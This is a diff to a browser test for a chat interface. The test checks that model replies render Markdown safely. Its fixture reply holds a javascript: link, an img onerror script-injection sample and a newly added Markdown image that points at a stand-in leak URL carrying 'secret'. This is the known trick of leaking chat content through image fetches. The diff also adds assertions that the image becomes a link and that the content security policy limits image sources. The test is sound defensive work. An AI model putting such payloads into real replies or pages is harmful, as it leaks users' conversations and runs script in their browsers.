@@ -13,7 +13,8 @@ from tests.support.fake_claude import Script
 MARKDOWN_REPLY = (
     "Here is **bold text**, some `inline code` and a [bad link](javascript:alert(1)).\n\n"
     '<img src="x" onerror="window.__injected = true">\n\n'
-    "- first point\n- second point"
+    "- first point\n- second point\n\n"
+    "![the conversation](http://127.0.0.1:9/leak?text=secret)"
 )
 
 
@@ -56,10 +57,16 @@ def test_markdown_is_rendered_and_html_is_shown_as_text(
     expect(reply.locator("li")).to_have_count(2)
     expect(reply.locator("a[href^='javascript']")).to_have_count(0)
     expect(a.page.locator("[data-testid=messages] img")).to_have_count(0)
+    # A Markdown image is never fetched: it becomes a link to follow or not.
+    image_link = reply.locator("a[data-image-link]")
+    expect(image_link).to_have_text("the conversation")
+    expect(image_link).to_have_attribute("href", "http://127.0.0.1:9/leak?text=secret")
     expect(a.page.locator("[data-testid=messages] script")).to_have_count(0)
     expect(reply).to_contain_text('<img src="x" onerror="window.__injected = true">')
     mine = a.messages("user").last.get_by_test_id("message-content")
     expect(mine).to_contain_text("<b>nicely</b>")
     expect(mine.locator("b")).to_have_count(0)
     assert a.page.evaluate("() => window.__injected === undefined")
+    policy = a.page.request.get(stack.base_url).headers["content-security-policy"]
+    assert "img-src 'self' data:" in policy
     a.screenshot("markdown")
